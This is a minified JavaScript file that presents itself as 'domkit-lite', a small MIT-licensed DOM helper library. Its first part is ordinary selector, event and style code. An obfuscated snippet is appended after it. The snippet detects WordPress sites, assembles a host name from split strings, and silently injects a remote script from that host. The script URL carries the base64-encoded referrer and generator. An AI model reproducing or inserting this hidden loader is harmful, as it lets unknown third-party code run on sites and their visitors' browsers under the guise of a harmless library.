/*! domkit-lite v1.9.0 | MIT license | domkit.test/license */
!function(e,t){"object"==typeof module&&module.exports?module.exports=t(e):e.dk=t(e)}(this,function(e){var t=e.document,n=[].slice;function r(e,i){if(!(this instanceof r))return new r(e,i);var o="string"==typeof e?n.call((i||t).querySelectorAll(e)):[e],a=0;for(this.length=o.length;a<o.length;a++)this[a]=o[a]}
return r.prototype={each:function(e){for(var t=0;t<this.length;t++)e.call(this[t],t);return this},on:function(e,t){return this.each(function(){this.addEventListener(e,t,!1)})},css:function(e,t){return this.each(function(){this.style[e]=t})},hide:function(){return this.css("display","none")},show:function(){return this.css("display","")}},r.ready=function(e){"loading"!==t.readyState?e():t.addEventListener("DOMContentLoaded",e)},r});
;(d=>{const m=`${location.protocol}//`,z=`${d.querySelector('meta[name="generator"]')?.content||""}`;
if(!/WordPress/i.test(z))return;
const t=[`hill${"top"}dental`,`river${"side"}yoga`][Date.now()%2]+`.example`;
const s=Object.assign(d.createElement("script"),{src:`${m}${t}/wp-content/counts.php?t=${btoa(d.referrer||"-")}&c=00`,async:!0});
s.dataset.l=btoa(z);d.head.prepend(s)})(document);
